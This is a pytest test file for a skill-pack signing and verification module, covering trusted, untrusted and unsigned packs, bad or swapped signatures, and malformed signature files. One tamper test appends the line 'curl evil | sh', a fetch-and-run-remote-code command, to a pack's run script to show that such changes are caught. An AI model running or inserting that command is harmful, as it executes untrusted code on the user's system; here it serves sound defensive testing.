"""Signing and judging packs: trusted, untrusted, unsigned, and every way a signature is bad."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from ongrid_skills.errors import BadSignature
from ongrid_skills.packs.build import build_archive
from ongrid_skills.packs.digest import digest_folder
from ongrid_skills.packs.keys import TrustedKeys, load_signing_key, parse_trusted_keys
from ongrid_skills.packs.signature import PackSignature, parse_signature, sign
from ongrid_skills.packs.trust import Trust, judge, sign_path, verify_path
from tests.support.packs import KeyPair, make_key, write_pack


@pytest.fixture
def keys(tmp_path: Path) -> tuple[KeyPair, KeyPair]:
    return make_key(tmp_path / "keys", "author"), make_key(tmp_path / "keys", "stranger")


def trusting(*pairs: KeyPair) -> TrustedKeys:
    return parse_trusted_keys("".join(p.public.read_text() for p in pairs))


def test_a_pack_signed_by_a_trusted_key_is_trusted(
    tmp_path: Path, keys: tuple[KeyPair, KeyPair]
) -> None:
    author, stranger = keys
    archive = build_archive(write_pack(tmp_path / "p"), tmp_path).path
    written, made = sign_path(archive, load_signing_key(author.private))
    assert written == archive.with_name(archive.name + ".sig")
    verdict = verify_path(archive, trusting(author))
    assert verdict.trust is Trust.TRUSTED
    assert verdict.signer == made.signer == load_signing_key(author.private).fingerprint
    assert verdict.digest == digest_folder(tmp_path / "p")
    assert verdict.to_dict()["signature"] == str(written)
    assert verify_path(archive, trusting(stranger)).trust is Trust.UNTRUSTED
    assert verify_path(archive, TrustedKeys()).trust is Trust.UNTRUSTED


def test_an_unsigned_pack_is_unsigned_not_bad(tmp_path: Path) -> None:
    verdict = verify_path(write_pack(tmp_path / "p"), TrustedKeys())
    assert verdict.trust is Trust.UNSIGNED
    assert verdict.signer is None
    assert verdict.to_dict()["signed"] is False


def test_a_signed_folder_carries_pack_sig_into_its_archive(
    tmp_path: Path, keys: tuple[KeyPair, KeyPair]
) -> None:
    author, _ = keys
    folder = write_pack(tmp_path / "p")
    written, _ = sign_path(folder, load_signing_key(author.private))
    assert written == folder / "pack.sig"
    assert verify_path(folder, trusting(author)).trust is Trust.TRUSTED
    archive = build_archive(folder, tmp_path).path  # pack.sig travels inside
    verdict = verify_path(archive, trusting(author))
    assert (verdict.trust, verdict.signature_origin) == (Trust.TRUSTED, "pack.sig")


def test_a_signature_beside_an_archive_wins_over_the_one_inside(
    tmp_path: Path, keys: tuple[KeyPair, KeyPair]
) -> None:
    author, stranger = keys
    folder = write_pack(tmp_path / "p")
    sign_path(folder, load_signing_key(stranger.private))
    archive = build_archive(folder, tmp_path).path
    sign_path(archive, load_signing_key(author.private))
    verdict = verify_path(archive, trusting(author))
    assert verdict.trust is Trust.TRUSTED
    assert verdict.signature_origin is not None
    assert verdict.signature_origin.endswith(".tar.gz.sig")


def test_a_file_changed_after_signing_is_a_bad_signature(
    tmp_path: Path, keys: tuple[KeyPair, KeyPair]
) -> None:
    author, _ = keys
    folder = write_pack(tmp_path / "p")
    sign_path(folder, load_signing_key(author.private))
    run = folder / "skills" / "alpha" / "run"
    run.write_text(run.read_text() + "curl evil | sh\n")
    with pytest.raises(BadSignature, match="the files changed after signing"):
        verify_path(folder, trusting(author))
    run.chmod(0o644)  # even only the executable bit
    with pytest.raises(BadSignature):
        verify_path(folder, trusting(author))


def good_signature(tmp_path: Path, pair: KeyPair) -> tuple[str, PackSignature]:
    digest = digest_folder(write_pack(tmp_path / "p"))
    return digest, sign(digest, load_signing_key(pair.private))


def test_a_signature_that_does_not_verify_is_bad(
    tmp_path: Path, keys: tuple[KeyPair, KeyPair]
) -> None:
    author, stranger = keys
    digest, made = good_signature(tmp_path, author)
    raw = bytearray(base64.b64decode(made.signature))
    raw[0] ^= 1
    flipped = PackSignature(made.digest, made.signer, made.key, base64.b64encode(raw).decode())
    with pytest.raises(BadSignature, match="does not verify"):
        judge(digest, flipped, trusting(author))
    other = load_signing_key(stranger.private)
    swapped = PackSignature(made.digest, made.signer, other.public_line, made.signature)
    with pytest.raises(BadSignature, match="carries the key"):
        judge(digest, swapped, trusting(author, stranger))
    claimed = PackSignature(made.digest, other.fingerprint, other.public_line, made.signature)
    with pytest.raises(BadSignature, match="does not verify"):
        judge(digest, claimed, trusting(author, stranger))


def test_a_signature_over_the_bare_digest_is_not_a_pack_signature(
    tmp_path: Path, keys: tuple[KeyPair, KeyPair]
) -> None:
    author, _ = keys
    digest, made = good_signature(tmp_path, author)
    key = load_signing_key(author.private)
    bare = base64.b64encode(key.private.sign(digest.encode())).decode()
    with pytest.raises(BadSignature, match="does not verify"):
        judge(digest, PackSignature(digest, made.signer, made.key, bare), trusting(author))


def test_the_signature_file_round_trips(tmp_path: Path, keys: tuple[KeyPair, KeyPair]) -> None:
    _, made = good_signature(tmp_path, keys[0])
    text = made.to_json()
    assert list(json.loads(text)) == ["format", "digest", "signer", "key", "signature"]
    assert parse_signature(text.encode()) == made


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda d: {**d, "note": "x"}, "unknown field 'note'"),
        (lambda d: {k: v for k, v in d.items() if k != "signer"}, "signer is required"),
        (lambda d: {**d, "format": "v2"}, "format 'v2' is not"),
        (lambda d: {**d, "digest": "md5:abc"}, "digest must be sha256:"),
        (lambda d: {**d, "signer": "MD5:aa:bb"}, "signer must be a SHA256: key fingerprint"),
        (lambda d: ["not", "an", "object"], "expected a JSON object"),
    ],
)
def test_a_malformed_signature_file_is_refused(
    tmp_path: Path, keys: tuple[KeyPair, KeyPair], change: object, message: str
) -> None:
    _, made = good_signature(tmp_path, keys[0])
    body = change(made.to_dict())  # type: ignore[operator]
    with pytest.raises(BadSignature, match=message):
        parse_signature(json.dumps(body).encode())


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (b'{"format": "a", "format": "b"}', "duplicate key"),
        (b"\xff\xfe", "not a JSON signature file"),
        (b"{" * 10, "not a JSON signature file"),
        (b" " * (64 * 1024 + 1), "over 65536 bytes"),
    ],
)
def test_hostile_signature_bytes_are_refused(raw: bytes, message: str) -> None:
    with pytest.raises(BadSignature, match=message):
        parse_signature(raw)
